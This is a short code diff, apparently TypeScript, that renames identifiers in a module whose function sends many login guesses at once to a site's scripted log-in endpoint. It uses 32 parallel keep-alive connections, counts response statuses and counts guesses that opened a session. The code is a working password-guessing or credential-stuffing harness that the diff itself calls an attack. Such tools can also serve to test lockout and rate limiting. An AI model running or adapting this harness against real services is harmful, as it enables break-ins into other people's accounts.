@@ -7,7 +7,7 @@ export interface Guess {
   readonly from: string;
 }
 
-export interface Siege {
+export interface Attack {
   /** How often each status was answered. */
   readonly statuses: Readonly<Record<number, number>>;
   /** Answers that opened a session. */
@@ -19,14 +19,14 @@ export interface Siege {
 const atOnce = 32;
 
 /** Sends guess after guess to the log-in that scripts use. */
-export async function besiege(origin: string, guesses: Iterable<Guess>): Promise<Siege> {
+export async function attack(origin: string, guesses: Iterable<Guess>): Promise<Attack> {
   const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
   const statuses: Record<number, number> = {};
   let sessions = 0;
   const start = performance.now();
   // One iterator for all: each takes the next guess.
   const rest = guesses[Symbol.iterator]();
-  async function attack(): Promise<void> {
+  async function guess(): Promise<void> {
     for (let next = rest.next(); !next.done; next = rest.next()) {
       const { status, cookies } = await ask(agent, origin, next.value);
       statuses[status] = (statuses[status] ?? 0) + 1;
@@ -34,7 +34,7 @@ export async function besiege(origin: string, guesses: Iterable<Guess>): Promise
     }
   }
   try {
-    await Promise.all(Array.from({ length: atOnce }, attack));
+    await Promise.all(Array.from({ length: atOnce }, guess));
   } finally {
     agent.destroy();
   }
